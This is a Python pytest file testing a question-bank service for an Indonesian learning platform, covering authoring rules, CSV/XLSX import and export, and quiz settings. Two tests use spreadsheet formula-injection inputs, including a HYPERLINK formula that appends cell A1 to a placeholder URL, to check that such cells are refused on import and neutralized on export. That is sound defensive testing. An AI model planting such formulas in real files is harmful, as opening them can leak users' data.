"""Question bank services: authoring rules, spreadsheet import (dry run, all or nothing, no
duplicates, no formulas), export, and quiz settings checked against what the bank can supply."""
import csv
import io

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from netral_learn.core.errors import InvalidInput
from netral_learn.courses.models import CourseVersion, Program
from netral_learn.extensions import db
from netral_learn.quiz import bank, services
from netral_learn.quiz.models import Question, QuizSettings, ReviewMode

HEADERS = ["Tipe", "Tag", "Soal", "Pilihan A", "Pilihan B", "Pilihan C", "Pilihan D", "Pilihan E", "Pilihan F",
           "Jawaban", "Penjelasan", "Dasar Hukum"]
GOOD_ROWS = [
    ["single", "kampanye", "Bolehkah ASN menjadi juru kampanye?", "Tidak boleh", "Boleh di hari libur", "", "", "",
     "", "A", "ASN dilarang menjadi pelaksana kampanye.", "UU 10/2016 Pasal 70"],
    ["multiple", "media-sosial", "Manakah yang dilarang di media sosial?", "Membagikan materi kampanye",
     "Memberi like unggahan calon", "Membaca berita pemilihan", "", "", "", "A,B", "", "SKB 2022"],
    ["Benar/Salah", "media-sosial", "ASN boleh berfoto dengan pose jari nomor urut calon.", "Benar", "Salah", "", "",
     "", "", "B", "", ""],
]


@pytest.fixture
def world(factory):
    tree = factory.tree()
    version = factory.course(modules=1)
    program = factory.program(tree["root"], version)
    factory.bank(version, count=12)  # 6 tagged "dasar", 6 tagged "sanksi"
    return {"version": version, "program": program}


def course_of(world):
    return db.session.get(CourseVersion, world["version"]).course


def count_questions(course) -> int:
    return db.session.scalar(select(func.count(Question.id)).where(Question.course_id == course.id))


def xlsx(rows, headers=HEADERS) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_file(rows, headers=HEADERS) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(headers)
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def spec(type="single", text="Bolehkah ASN hadir di deklarasi calon?", options=(("Tidak", True), ("Ya", False)),
         **extra):
    return bank.make_spec(type, text, options, **extra)


# --- authoring -----------------------------------------------------------------------------

@pytest.mark.parametrize("case, message", [
    (spec(options=(("Tidak", True), ("Ya", True))), "tepat satu jawaban benar"),
    (spec(options=(("Tidak", False), ("Ya", False))), "tepat satu jawaban benar"),
    (spec(type="multiple", options=(("A", True), ("B", False), ("C", False))), "paling sedikit dua jawaban benar"),
    (spec(type="multiple", options=(("A", True), ("B", True))), "paling sedikit satu pilihan yang salah"),
    (spec(options=(("Tidak", True),)), "paling sedikit dua pilihan"),
    (spec(type="true_false", options=(("Ya", True), ("Tidak", False))), "\u201cBenar\u201d lalu \u201cSalah\u201d"),
    (spec(type="true_false", options=(("Salah", True), ("Benar", False))), "\u201cBenar\u201d lalu \u201cSalah\u201d"),
    (spec(type="true_false", options=(("Benar", True), ("Salah", True))), "tepat satu jawaban benar"),
    (spec(text="   "), "Teks soal wajib diisi"),
    (spec(type="essay"), "Tipe soal \u201cessay\u201d tidak dikenal"),
    (spec(options=(("Tidak", True), ("tidak", False))), "tidak boleh sama"),
    (spec(options=(("Tidak", False), ("", True))), "harus diisi teksnya"),
])
def test_authoring_rules_speak_indonesian(ctx, world, case, message):
    """Is a question that breaks a rule of its type refused with a message saying which rule?"""
    with pytest.raises(InvalidInput, match=message):
        bank.create_question(None, course_of(world), case)
    db.session.rollback()


def test_create_update_and_deactivate(ctx, world):
    """Does a new question join the draw, an edit change it, and deactivating take it out of the draw?"""
    course = course_of(world)
    question = bank.create_question(None, course, spec(tag="kampanye", basis="UU 10/2016 Pasal 70"))
    db.session.commit()
    assert question.id in services.bank_by_tag(course.id)["kampanye"]
    assert [(o.text, o.is_correct) for o in question.options] == [("Tidak", True), ("Ya", False)]
    bank.update_question(None, question, spec(tag="kampanye", options=(("Tidak", True), ("Ya", False),
                                                                       ("Hanya di luar jam kerja", False))))
    db.session.commit()
    assert len(question.options) == 3
    bank.set_question_active(None, question, False)
    db.session.commit()
    assert "kampanye" not in services.bank_by_tag(course.id)


def test_same_type_and_text_twice_is_refused(ctx, world):
    """Can a bank hold two questions with the same type and text? (No: imports match on them.)"""
    course = course_of(world)
    bank.create_question(None, course, spec())
    with pytest.raises(InvalidInput, match="sudah ada di bank soal"):
        bank.create_question(None, course, spec(options=(("Ya", False), ("Tidak", True))))


# --- import --------------------------------------------------------------------------------

def test_dry_run_reports_every_bad_row_and_nothing_is_written(ctx, world):
    """Does the dry run name row, column and reason for each bad row, and does applying then save nothing?"""
    course = course_of(world)
    before = count_questions(course)
    rows = [*GOOD_ROWS,
            ["pilihan", "x", "Soal dengan tipe asing", "A", "B", "", "", "", "", "A", "", ""],
            ["single", "x", "Kunci menunjuk pilihan kosong", "A", "B", "", "", "", "", "C", "", ""],
            ["multiple", "x", "Jawaban ganda dengan satu kunci", "A", "B", "C", "", "", "", "A", "", ""],
            ["single", "x", "Pilihan bolong", "A", "", "C", "", "", "", "A", "", ""]]
    plan = bank.plan_import(course, "soal.xlsx", xlsx(rows))
    found = {(e.row, e.column) for e in plan.errors}
    assert found == {(5, "Tipe"), (6, "Jawaban"), (7, "Jawaban"), (8, "Pilihan B")}
    reasons = {e.row: e.message for e in plan.errors}
    assert "tidak dikenal" in reasons[5] and "kosong" in reasons[6] and "paling sedikit dua" in reasons[7]
    assert len(plan.new) == 3 and not plan.ok
    with pytest.raises(InvalidInput, match="4 kesalahan"):
        bank.apply_import(None, course, plan)
    assert count_questions(course) == before

    fixed = bank.plan_import(course, "soal.xlsx", xlsx(GOOD_ROWS))
    assert fixed.ok
    result = bank.apply_import(None, course, fixed)
    db.session.commit()
    assert result.created == 3 and count_questions(course) == before + 3
    true_false = db.session.scalar(select(Question).where(Question.text.like("ASN boleh berfoto%")))
    assert true_false.type.value == "true_false" and [o.is_correct for o in true_false.options] == [False, True]


def test_importing_the_same_file_twice_adds_nothing(ctx, world):
    """Does a second import of the same file change nothing, and an edited row update in place?"""
    course = course_of(world)
    bank.apply_import(None, course, bank.plan_import(course, "soal.csv", csv_file(GOOD_ROWS)))
    db.session.commit()
    total = count_questions(course)
    again = bank.plan_import(course, "soal.csv", csv_file(GOOD_ROWS))
    assert (len(again.new), len(again.updates), again.unchanged) == (0, 0, 3)
    bank.apply_import(None, course, again)
    edited = [row[:] for row in GOOD_ROWS]
    edited[0][10] = "Penjelasan yang diperbaiki."
    plan = bank.plan_import(course, "soal.csv", csv_file(edited))
    assert (len(plan.new), len(plan.updates), plan.unchanged) == (0, 1, 2)
    bank.apply_import(None, course, plan)
    db.session.commit()
    assert count_questions(course) == total
    assert db.session.scalar(select(Question.explanation).where(Question.text == GOOD_ROWS[0][2])) \
        == "Penjelasan yang diperbaiki."


def test_a_row_repeated_in_one_file_is_an_error(ctx, world):
    """Is the same question twice in one file reported rather than imported twice?"""
    plan = bank.plan_import(course_of(world), "soal.csv", csv_file([GOOD_ROWS[0], GOOD_ROWS[0]]))
    assert [(e.row, e.column) for e in plan.errors] == [(3, "Soal")] and "baris 2" in plan.errors[0].message


def test_formula_cells_are_refused(ctx, world):
    """Is a cell that a spreadsheet would run as a formula refused, naming row and column?"""
    rows = [["single", "x", '=HYPERLINK("http://contoh.invalid","Klik")', "A", "B", "", "", "", "", "A", "", ""],
            ["single", "x", "Soal biasa", "@SUM(A1)", "B", "", "", "", "", "A", "", ""]]
    plan = bank.plan_import(course_of(world), "soal.csv", csv_file(rows))
    assert [(e.row, e.column) for e in plan.errors] == [(2, "Soal"), (3, "Pilihan A")]
    assert all("rumus" in e.message for e in plan.errors)


def test_unreadable_files_are_refused_as_a_whole(ctx, world):
    """Are a wrong file type and missing required columns reported before any row is read?"""
    course = course_of(world)
    with pytest.raises(InvalidInput, match="Jenis berkas tidak didukung"):
        bank.plan_import(course, "soal.pdf", b"%PDF-1.4")
    with pytest.raises(InvalidInput, match="Jawaban"):
        bank.plan_import(course, "soal.csv", csv_file([["single", "Soal", "A", "B"]],
                                                      headers=["Tipe", "Soal", "Pilihan A", "Pilihan B"]))


# --- export --------------------------------------------------------------------------------

def expected_rows(course):
    rows = []
    for question in db.session.scalars(select(Question).where(Question.course_id == course.id,
                                                              Question.active.is_(True)).order_by(Question.id)):
        options = [o.text for o in question.options]
        answer = ",".join("ABCDEF"[i] for i, o in enumerate(question.options) if o.is_correct)
        rows.append([question.type.value, question.tag, question.text, *options, *[None] * (6 - len(options)),
                     answer, question.explanation or None, question.basis or None])
    return rows


def test_export_reads_back_as_the_bank_and_reimports_unchanged(ctx, world):
    """Does the XLSX export hold exactly the active bank, and does re-importing it change nothing?"""
    course = course_of(world)
    retired = db.session.scalar(select(Question).where(Question.course_id == course.id))
    bank.set_question_active(None, retired, False)
    db.session.commit()
    data = bank.export_file(course, "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[0] == HEADERS and sheet["A1"].font.bold
    assert values[1:] == expected_rows(course) and len(values) == 12  # 11 active + header
    plan = bank.plan_import(course, "bank.xlsx", data)
    assert (len(plan.new), len(plan.updates), plan.unchanged, plan.errors) == (0, 0, 11, [])
    csv_rows = list(csv.reader(io.StringIO(bank.export_file(course, "csv").decode("utf-8-sig"))))
    assert csv_rows[0] == HEADERS and len(csv_rows) == 12


def test_export_neutralizes_formula_text(ctx, world):
    """Is a question text that looks like a formula exported as plain text, never as a live formula?"""
    course = course_of(world)
    text = '=HYPERLINK("http://contoh.invalid/?q="&A1,"Klik di sini")'
    bank.create_question(None, course, spec(text=text, options=(("-1 hari", True), ("+62 812", False))))
    db.session.commit()
    sheet = load_workbook(io.BytesIO(bank.export_file(course, "xlsx"))).active
    last = list(sheet.iter_rows(min_row=sheet.max_row))[0]
    assert last[2].value == "'" + text and last[2].data_type == "s"
    assert last[3].value == "'-1 hari"
    exported_csv = bank.export_file(course, "csv").decode("utf-8-sig")
    assert "'=HYPERLINK" in exported_csv and '\n"=HYPERLINK' not in exported_csv


def test_template_is_importable(ctx, world):
    """Does the downloadable template itself pass the dry run (so its examples teach the format)?"""
    for fmt in ("xlsx", "csv"):
        plan = bank.plan_import(course_of(world), f"templat.{fmt}", bank.template_file(fmt))
        assert plan.ok and len(plan.new) == 3
    notes = load_workbook(io.BytesIO(bank.template_file("xlsx")))["Petunjuk"]
    assert notes["A2"].value == "Tipe"


# --- settings ------------------------------------------------------------------------------

SETTINGS = dict(question_count=10, per_tag={"dasar": 3, "sanksi": 2}, pass_mark=80, max_attempts=2,
                time_limit_minutes=15, cooldown_minutes=30, grace_seconds=45, review_mode="immediately",
                pretest_enabled=True)


def test_settings_are_saved(ctx, world):
    """Are valid settings stored as given, zero tag counts dropped?"""
    program = db.session.get(Program, world["program"])
    bank.save_settings(None, program, **{**SETTINGS, "per_tag": {"dasar": 3, "sanksi": 2, "lain": 0}})
    db.session.commit()
    stored = db.session.get(QuizSettings, program.id)
    assert stored.question_count == 10 and stored.per_tag == {"dasar": 3, "sanksi": 2}
    assert stored.review_mode == ReviewMode.IMMEDIATELY and stored.pretest_enabled and stored.grace_seconds == 45


@pytest.mark.parametrize("changes, field, message", [
    ({"pass_mark": 101}, "pass_mark", "Nilai lulus harus bilangan bulat antara 0 dan 100"),
    ({"question_count": 0}, "question_count", "Jumlah soal harus bilangan bulat antara 1 dan 200"),
    ({"max_attempts": -1}, "max_attempts", "Batas percobaan"),
    ({"time_limit_minutes": 601}, "time_limit_minutes", "Batas waktu"),
    ({"grace_seconds": 3600}, "grace_seconds", "Toleransi"),
    ({"review_mode": "kadang"}, "review_mode", "tidak dikenal"),
    ({"per_tag": {"dasar": -2}}, "per_tag", "0 atau lebih"),
    ({"question_count": 4, "per_tag": {"dasar": 3, "sanksi": 2}}, "per_tag", "melebihi jumlah soal kuis"),
    ({"question_count": 13}, "question_count", "Bank soal hanya berisi 12 soal aktif; kuis meminta 13"),
    ({"per_tag": {"dasar": 7}}, "per_tag", "\u201cdasar\u201d hanya memiliki 6 soal aktif; diminta 7"),
    ({"per_tag": {"pemilu": 1}}, "per_tag", "\u201cpemilu\u201d hanya memiliki 0 soal aktif"),
])
def test_settings_outside_the_rules_are_refused(ctx, world, changes, field, message):
    """Are out-of-range values and a draw the bank cannot supply refused, naming the setting?"""
    program = db.session.get(Program, world["program"])
    with pytest.raises(bank.FieldErrors, match=message) as refused:
        bank.save_settings(None, program, **{**SETTINGS, **changes})
    assert field in {name for name, _ in refused.value.problems}
    assert db.session.get(QuizSettings, program.id) is None


def test_deactivating_questions_shows_up_as_a_shortfall(ctx, world, factory):
    """When questions are retired below what a program draws, does the bank say so?"""
    program = db.session.get(Program, world["program"])
    bank.save_settings(None, program, **{**SETTINGS, "question_count": 12, "per_tag": {}})
    db.session.commit()
    assert bank.draw_shortfalls(program) == []
    bank.set_question_active(None, db.session.scalar(select(Question)), False)
    assert "hanya berisi 11 soal aktif" in str(bank.draw_shortfalls(program)[0][1])
